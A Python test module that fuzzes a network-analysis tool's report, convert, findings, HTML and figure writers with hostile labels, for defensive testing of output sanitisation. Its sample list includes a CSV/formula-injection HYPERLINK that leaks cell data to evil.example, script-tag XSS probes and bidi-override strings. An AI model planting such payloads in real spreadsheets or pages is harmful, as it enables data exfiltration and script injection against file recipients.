"""Untrusted labels in every output writer: never a traceback, never a live formula or markup.

Labels, groups and periods come from files municipalities pass around. Hypothesis feeds arbitrary
Unicode (control characters, bidi overrides, ``$…$`` math, ``=…`` formulas, ``<script>``, very
long text) through each writer: report tables (CSV + xlsx), ``convert`` (CSV, xlsx, GraphML
round trips keep the text exactly where the format can hold it), ``findings.md`` /
``findings.json``, the interactive HTML, and figures (PNG and SVG save without error). One
end-to-end report with hostile data checks ``index.html`` and the files together.
"""

from __future__ import annotations

import dataclasses
import itertools
import json
import re
import shutil
import tempfile
import tomllib
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import networkx as nx
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import coopnet
from coopnet.config import DatasetMeta
from coopnet.diagnose import Diagnosis, Finding, write_findings_files
from coopnet.diagnose.findings import Evidence
from coopnet.errors import InputError
from coopnet.interactive import network_html
from coopnet.report import build_report
from coopnet.report.tables import write_tables
from coopnet.textsafe import BIDI_CONTROLS, FORMULA_PREFIXES, clean_text, markdown_text, xml_text
from coopnet.viz import plot_mixing_heatmap, plot_network, plot_ranking, save_figure

from .conftest import MakeDataset
from .test_interactive import payload

NASTY = [
    "=A1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "#N/A",
    "<script>alert(1)</script>",
    "</script><!--",
    "$\\notacommand$",
    "Fonds $1__2$",
    "Budget $^$",
    "Amt\u202eA\u202c",
    "\u2066isoliert\u2069",
    "NUL\x00Zeichen",
    "Word\x0bUmbruch",
    "\x1b[31mrot\x1b[0m",
    "**fett** _kursiv_ `code` [link](http://x) ![b](http://x) <b>",
    "# Überschrift | Tabelle | ~~durch~~",
    "&amp; &#x202E;",
    "Ausländerbehörde – Süd & Ost",
    "x" * 1000,  # the longest label the input limits allow (Limits.label_chars)
]

TEXT = st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=40)
LABEL = st.one_of(
    st.sampled_from(NASTY),
    TEXT,
    st.builds(lambda a, b: a + b, st.sampled_from(NASTY), TEXT),
)
LABELS = st.lists(LABEL, min_size=1, max_size=5)
FUZZ = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])

FORMULA_START = re.compile(r"^[=+\-@\t\r]")


_ROOT: list[Path] = []


@pytest.fixture(scope="module", autouse=True)
def _fuzz_root(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """One folder under pytest's managed base for every example, so none is left in /tmp."""
    _ROOT.append(tmp_path_factory.mktemp("fuzz"))
    yield
    shutil.rmtree(_ROOT.pop(), ignore_errors=True)


def _tmp() -> Path:
    return Path(tempfile.mkdtemp(prefix="example-", dir=_ROOT[-1]))


# ----------------------------------------------------------------------------- report tables
@FUZZ
@given(labels=LABELS)
def test_report_tables_hold_no_formula(labels: list[str]) -> None:
    groups = [f"g{i}" if i % 2 else label for i, label in enumerate(labels)]
    tables = {
        "actors_x": pd.DataFrame(
            {"id": [f"a{i}" for i in range(len(labels))], "label": labels, "value": 0.5}
        ),
        "mixing_x": pd.DataFrame(
            [[1.0] * len(set(groups))], columns=list(dict.fromkeys(groups))
        ).assign(group=groups[0]),
    }
    folder = _tmp()
    write_tables(tables, folder)
    for csv in folder.glob("*.csv"):
        text = csv.read_text(encoding="utf-8")
        assert not set(text) & BIDI_CONTROLS
        read = pd.read_csv(csv, dtype=str, keep_default_na=False)
        for cell in [*read.columns, *read.to_numpy().ravel()]:
            assert not str(cell).startswith(FORMULA_PREFIXES), (csv.name, cell)
    book = openpyxl.load_workbook(folder / "tables.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.value)
                texts.append(cell.value)
    for label in labels:  # cleaned for reading; line ends as XML holds them
        assert xml_text(clean_text(label))[:32767] in texts


# ----------------------------------------------------------------------------- convert
@pytest.fixture(scope="module")
def base() -> coopnet.CooperationNetwork:
    folder = _tmp() / "base"
    folder.mkdir()
    (folder / "actors.csv").write_text(
        "id,label,group\n=A1,Formel,X\nb,Amt B,X\nc,Amt C,Y\nd,Amt D,Y\n", encoding="utf-8"
    )
    (folder / "ties.csv").write_text(
        "source,target,type\n=A1,b,info\nb,c,projekt\nc,d,info\n", encoding="utf-8"
    )
    return coopnet.load(folder)


@settings(FUZZ, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(labels=LABELS)
def test_convert_round_trips_keep_text(base: coopnet.CooperationNetwork, labels: list[str]) -> None:
    actors = base.actors.copy()
    for i, label in enumerate(labels[: len(actors)]):
        actors.iloc[i, actors.columns.get_loc("label")] = label
        actors.iloc[i, actors.columns.get_loc("group")] = label
    net = dataclasses.replace(base, actors=actors)
    folder = _tmp()
    written = {
        "csv": net.write(folder / "csv"),
        "xlsx": net.write(folder / "data.xlsx"),
        "graphml": net.write(folder / "data.graphml"),
    }
    try:
        exact = coopnet.load(written["csv"])  # the reader's own rules (trimming, ...) apply
    except InputError:
        return  # the validation refuses such a label: the readers' concern, not the writers'
    ids = exact.actors["id"].tolist()
    assert "=A1" in ids
    for fmt in ("xlsx", "graphml"):
        back = coopnet.load(written[fmt])
        assert back.actors["id"].tolist() == ids  # the id '=A1' survives
        for actor in ids:
            original = str(net.actors.set_index("id").at[actor, "label"])
            if xml_text(original) == original:  # the format can hold it: exactly the same
                got = back.actors.set_index("id").at[actor, "label"]
                assert got == exact.actors.set_index("id").at[actor, "label"], fmt
    book = openpyxl.load_workbook(written["xlsx"])
    assert all(
        c.data_type not in ("f", "e") for s in book.worksheets for r in s.iter_rows() for c in r
    )


# ----------------------------------------------------------------------------- findings
@FUZZ
@given(labels=LABELS, period=LABEL, group=LABEL)
def test_findings_files_escape_markdown_and_keep_json_exact(
    labels: list[str], period: str, group: str
) -> None:
    findings = [
        Finding(
            code="silo_group",
            severity="high",
            statement=f"{label} arbeitet isoliert.",
            evidence=(Evidence("ei_index", -1.0, f"E-I {label}", label),),
            actors=(f"a{i}",),
            groups=(label,),
            question=f"Warum {label}?",
            period=period,
            strength=1.0,
        )
        for i, label in enumerate(labels)
    ]
    diagnosis = Diagnosis(
        findings=findings, dataset=labels[0], periods=(period,), lang="de", group=group,
        labels={f"a{i}": label for i, label in enumerate(labels)},
    )  # fmt: skip
    folder = _tmp()
    md_path = folder / "findings.md"
    write_findings_files(diagnosis, folder)
    markdown = md_path.read_text(encoding="utf-8")
    assert not set(markdown) & BIDI_CONTROLS
    for text in (*labels, period, group):
        assert markdown_text(text) in markdown
    body = markdown.split("\n", 1)[1]
    # no line starts with markup from the data: every heading and list item is coopnet's
    for line in body.splitlines():
        # (headings, list items, the topics' tables and their captions are coopnet's too)
        assert line == "" or line.startswith(
            ("## ", "### ", "#### ", "- **", "- `", "> ", "Gruppierung", "| ", "|---", "*")
        )
    data = json.loads((folder / "findings.json").read_text(encoding="utf-8"))
    assert [f["statement"] for f in data["findings"]] == [f.statement for f in findings]


# ----------------------------------------------------------------------------- interactive
@FUZZ
@given(labels=LABELS, title=LABEL)
def test_interactive_page_carries_labels_only_as_clean_data(labels: list[str], title: str) -> None:
    graph = nx.Graph()
    for i, label in enumerate(labels):
        graph.add_node(f"a{i}", label=label, group=label)
    nodes = list(graph)
    graph.add_edges_from(itertools.pairwise(nodes))
    page = network_html(graph, group="group", title=title, positions={n: (0, 0) for n in graph})
    assert len(re.findall(r"</script", page, re.IGNORECASE)) == 3
    assert not set(page) & BIDI_CONTROLS
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", page)
    data = payload(page)
    assert [n["label"] for n in data["nodes"]] == [clean_text(label) for label in labels]


# ----------------------------------------------------------------------------- figures
# a 1000-character title leaves no room for the axes: matplotlib says so, which is fine
@pytest.mark.filterwarnings("ignore:constrained_layout not applied:UserWarning")
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(labels=st.lists(LABEL, min_size=2, max_size=4, unique=True), title=LABEL)
def test_figures_with_any_label_save(labels: list[str], title: str) -> None:
    graph = nx.Graph()
    for i, label in enumerate(labels):
        graph.add_node(f"a{i}", label=label, group=label)
    nodes = list(graph)
    graph.add_edges_from(itertools.pairwise(nodes))
    folder = _tmp()
    fig, _ = plot_network(graph, group="group", title=title, seed=0)
    save_figure(fig, folder / "network.png", formats=("png", "svg"))
    mixing = pd.DataFrame(0.5, index=labels, columns=labels)
    fig, _ = plot_mixing_heatmap(mixing, title=title)
    save_figure(fig, folder / "mixing.png", formats=("png", "svg"))
    values = pd.Series(range(len(labels)), index=nodes, dtype=float)
    fig, _ = plot_ranking(values, labels=dict(zip(nodes, labels, strict=True)), title=title)
    save_figure(fig, folder / "ranking.png", formats=("png", "svg"))
    for svg in folder.glob("*.svg"):
        text = svg.read_text(encoding="utf-8")
        assert not set(text) & BIDI_CONTROLS
        ElementTree.fromstring(text.encode("utf-8"))  # well-formed XML


# ----------------------------------------------------------------------------- end to end
def test_report_with_hostile_labels(make_dataset: MakeDataset, tmp_path: Path) -> None:
    nasty = [n for n in NASTY if "\x00" not in n]  # the CSV reader's rules are not tested here
    actors = pd.DataFrame(
        {"id": [f"a{i}" for i in range(len(nasty))], "label": nasty,
         "team": [nasty[i % 6] for i in range(len(nasty))]}
    )  # fmt: skip
    ties = pd.DataFrame(
        {"source": actors["id"][:-1].tolist(), "target": actors["id"][1:].tolist()}
    ).assign(period=["2016/17" if i % 2 else "**2022**" for i in range(len(nasty) - 1)])
    folder = make_dataset("x", "x", 'group = "team"\nperiods = ["2016/17", "**2022**"]\n')
    actors.to_csv(folder / "actors.csv", index=False)
    ties.to_csv(folder / "ties.csv", index=False)
    net = coopnet.load(folder)
    net = dataclasses.replace(net, source="/home/analystin/geheim/kunde-x/daten")
    out = build_report(net, tmp_path / "r", config=coopnet.AnalysisConfig(n_permutations=9))
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "geheim" not in page and "analystin" not in page  # the dataset's name instead
    assert net.name in page
    for path in out.rglob("*"):
        if path.suffix in (".html", ".md", ".csv", ".svg"):
            text = path.read_text(encoding="utf-8")
            assert not set(text) & BIDI_CONTROLS, path
            assert "\x1b" not in text, path
    assert "<script>alert(1)" not in page
    findings = (out / "findings.md").read_text(encoding="utf-8")
    assert "\\*\\*2022\\*\\*" in findings and "**2022**" not in findings
    with zipfile.ZipFile(out / "tables" / "tables.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    actors_csv = next((out / "tables").glob("actors_2016*.csv"))
    cells = pd.read_csv(actors_csv, dtype=str, keep_default_na=False)["label"]
    assert "'=A1" in cells.tolist() and "=A1" not in cells.tolist()


# ----------------------------------------------------------------------------- fixed examples
def test_math_text_in_labels_is_drawn_as_written(tmp_path: Path) -> None:
    groups = ["Fonds $1__2$", "$\\notacommand$", "Budget $^$"]
    mixing = pd.DataFrame(0.5, index=groups, columns=groups)
    fig, _ = plot_mixing_heatmap(mixing, title="Titel $x^$")
    png, svg = save_figure(fig, tmp_path / "m.png", formats=("png", "svg"))
    assert png.stat().st_size > 0
    text = svg.read_text(encoding="utf-8")
    for group in groups:  # matplotlib keeps each text as a comment beside its glyphs
        assert f"<!-- {group} -->" in text


def test_formula_like_ids_and_labels_survive_a_convert_round_trip(
    make_dataset: MakeDataset, tmp_path: Path
) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
    folder = make_dataset("id,label\nb,B\nc,C\n", "source,target\n=A1,b\nb,c\n")
    pd.DataFrame({"id": ["=A1", "b", "c"], "label": [hyperlink, "#N/A", "@SUM(A1)"]}).to_csv(
        folder / "actors.csv", index=False
    )
    net = coopnet.load(folder)
    for name in ("x.xlsx", "x.graphml", "x"):
        back = coopnet.load(net.write(tmp_path / name))
        assert back.actors.set_index("id")["label"].to_dict() == {
            "=A1": hyperlink, "b": "#N/A", "c": "@SUM(A1)"
        }, name  # fmt: skip
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert all(
        c.data_type == "s" for s in book.worksheets for r in s.iter_rows() for c in r if c.value
    )


def test_control_characters_do_not_crash_the_excel_writers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label\x00": ["NUL\x00", "Word\x0b", "ESC\x1b[0m"], "n": [1, 2, 3]})
    write_tables({"t": frame}, tmp_path / "tables")  # the report's tables: cleaned
    values = [
        c.value
        for r in openpyxl.load_workbook(tmp_path / "tables" / "tables.xlsx").active.iter_rows()
        for c in r
    ]
    assert "Word " in values and "NUL\ufffd" in values and "label\ufffd" in values


def test_findings_markdown_escapes_period_and_group_column() -> None:
    finding = Finding(
        code="silo_group", severity="high", statement="S.", evidence=(), actors=(), groups=(),
        question="Q?", period="**2022** [x](http://evil)", strength=1.0,
    )  # fmt: skip
    diagnosis = Diagnosis(
        findings=[finding], dataset="D", periods=("**2022** [x](http://evil)",), lang="en",
        group="a`b<script>",
    )  # fmt: skip
    folder = _tmp()
    write_findings_files(diagnosis, folder)
    markdown = (folder / "findings.md").read_text(encoding="utf-8")
    assert "## \\*\\*2022\\*\\* \\[x\\](http://evil)" in markdown
    assert "Grouping: a\\`b\\<script\\>" in markdown
    assert "<script>" not in markdown and "**2022**" not in markdown


@FUZZ
@given(name=TEXT, description=LABEL, periods=st.lists(TEXT, max_size=3))
def test_dataset_toml_written_by_convert_reads_back(
    name: str, description: str, periods: list[str]
) -> None:
    meta = DatasetMeta(name=name, description=description, periods=tuple(periods), group=name)
    data = tomllib.loads(meta.to_toml())  # control characters escaped: still valid TOML
    assert (data["name"], data["description"], data["group"]) == (name, description, name)
    assert data["periods"] == periods
